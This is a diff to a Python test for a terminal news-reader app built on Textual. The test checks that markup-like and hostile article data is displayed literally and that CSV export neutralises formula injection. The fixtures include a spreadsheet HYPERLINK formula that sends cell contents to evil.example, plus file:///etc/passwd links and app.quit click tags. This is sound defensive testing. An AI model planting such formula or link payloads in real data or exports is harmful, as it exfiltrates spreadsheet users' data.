@@ -9,6 +9,7 @@ on it.
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -40,17 +41,20 @@ TITLES = {
     "h1": "[/FOTO] Banjir melanda [b]kota[/b] Jakarta",
     "h2": "[FOTO] Banjir di [link=file:///etc/passwd]pantai[/link] $accent [B]x[/B] \\",
     "h3": "Banjir [@click=app.quit]besar[/] [/b]",
+    "h4": '=HYPERLINK("http://evil.example/?d="&A1,"Banjir")',
 }
 SOURCES = {
     "h1": "[FOTO] [/b][@click=app.quit]Kompas[/]",
     "h2": "[B]Detik[/B] [/]",
     "h3": "[link=file:///etc/passwd]Tempo[/link]",
+    "h4": "@SUM(A1:A9)",
 }
 BODIES = {
     "h1": "Presiden Joko Widodo meninjau banjir di Jakarta pada Rabu (3/1/2024). {markup}\n\n"
     "Gubernur Heru Budi Hartono mengatakan banjir [FOTO] surut. Menteri Basuki Hadimuljono meresmikan bendungan.",
     "h2": "Presiden Joko Widodo kembali meninjau banjir di Jakarta. {markup} Heru Budi Hartono mendampingi.",
     "h3": "Banjir besar melanda Jakarta. Presiden Joko Widodo menyalurkan bantuan. {markup}",
+    "h4": "Banjir rob di pesisir utara. {markup}",
 }
 NAME = "[FOTO] Joko [/b][@click=app.quit]Wi[/] [B]"
 """An entity name as hostile as the titles (the recogniser finds none such: the engine's answer is faked)."""
@@ -144,8 +148,8 @@ async def test_every_screen_shows_markup_like_data_as_written(
         rows = [line for line in screen_lines(app) if "Banjir" in line]
         for title in TITLES.values():
             assert any(title[:24] in row for row in rows), title
-        # the article: title, source, text
-        await pilot.press(*"banjir", "enter", "enter")
+        # the article: title, source, text (the one whose event's summary quotes "[FOTO]")
+        await pilot.press(*"surut", "enter", "enter")
         await settle(pilot)
         article = app.screen.query_one(ArticleView)
         assert article.article is not None
@@ -184,7 +188,7 @@ async def test_every_screen_shows_markup_like_data_as_written(
         await settle(pilot)
 
         # an entity's timeline in the sidebar (the engine's answer names the hostile entity)
-        await pilot.press("slash", "ctrl+a", "ctrl+k", *"banjir", "enter", "enter")
+        await pilot.press("slash", "ctrl+a", "ctrl+k", *"presiden", "enter", "enter")
         await settle(pilot)
         await pilot.press("e", "t")
         await settle(pilot)
@@ -233,6 +237,10 @@ async def test_every_screen_shows_markup_like_data_as_written(
         await settle(pilot)
         assert isinstance(app.screen, MainScreen)
         assert status(app).endswith(f" hits to {folder / '[FOTO].csv'}")
+        with (folder / "[FOTO].csv").open(encoding="utf-8", newline="") as file:
+            exported = {row["title"]: row["source"] for row in csv.DictReader(file)}
+        assert exported["'" + TITLES["h4"]] == "'" + SOURCES["h4"]  # a spreadsheet shows them, runs nothing
+        assert exported[TITLES["h1"]] == SOURCES["h1"]
 
         # the help screen
         await pilot.press("question_mark")
